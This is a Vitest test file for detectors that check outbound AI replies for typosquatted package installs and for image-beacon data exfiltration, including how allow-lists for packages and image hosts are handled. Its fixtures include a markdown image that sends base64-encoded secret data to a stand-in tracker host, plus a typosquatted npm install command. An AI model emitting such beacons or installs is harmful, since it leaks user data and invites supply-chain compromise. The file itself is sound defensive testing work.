import { describe, expect, it } from 'vitest';
import type { AllowLists } from '../../../lib/settings/user-settings.ts';
import { exfil } from '../../../lib/detectors/exfil.ts';
import { createPackageCheck } from '../../../lib/detectors/package-check.ts';
import { detectorContext } from '../../support/detector-context.ts';
import { tinyProvider } from '../packages/fixtures/tiny-snapshot.ts';

// The allow-lists that package-check and exfil read from DetectorContext.custom.
const custom = (lists: Partial<AllowLists>) => ({ customRules: [], allowLists: { imageHosts: [], packages: [], phrases: [], ...lists } });
const ruleIds = (report: Awaited<ReturnType<typeof exfil.run>>) => (report.status === 'ok' ? report.findings.map((finding) => finding.ruleId) : report.status);

describe('package-check with allowLists.packages', () => {
  const detector = createPackageCheck(tinyProvider());
  const reply = '```bash\nnpm i expresss\npip install Acme_Internal-Tools\n```\n```python\nimport acme_internal_tools.client\n```';

  it('flags unknown names without an allow-list', async () => {
    const report = await detector.run(detectorContext(reply, { direction: 'outbound' }));
    expect(ruleIds(report)).toEqual(expect.arrayContaining(['package-check/npm-typosquat', 'package-check/pypi-unverified', 'package-check/python-import-unverified']));
  });

  it('leaves allow-listed names alone (PyPI names the PEP 503 way), and only those', async () => {
    const report = await detector.run(detectorContext(reply, { direction: 'outbound', custom: custom({ packages: ['acme-internal-tools'] }) }));
    expect(ruleIds(report)).toEqual(['package-check/npm-typosquat']);
    const all = await detector.run(detectorContext(reply, { direction: 'outbound', custom: custom({ packages: ['acme-internal-tools', 'EXPRESSS'] }) }));
    expect(ruleIds(all)).toEqual([]);
  });
});

describe('exfil with allowLists.imageHosts', () => {
  const text = 'Done ![x](https://img.tracker.example/p.png?d=U2VjcmV0IHF1YXJ0ZXJseSBudW1iZXJzOiA0LjJN)';
  const options = { allowedHosts: [] };

  it('treats an allow-listed host (or *.suffix) like the site’s own', async () => {
    expect(ruleIds(await exfil.run(detectorContext(text, { direction: 'outbound', options })))).toEqual(['exfil/image-beacon']);
    expect(ruleIds(await exfil.run(detectorContext(text, { direction: 'outbound', options, custom: custom({ imageHosts: ['*.tracker.example'] }) })))).toEqual([]);
    expect(ruleIds(await exfil.run(detectorContext(text, { direction: 'outbound', options, custom: custom({ imageHosts: ['other.example'] }) })))).toEqual(['exfil/image-beacon']);
  });
});
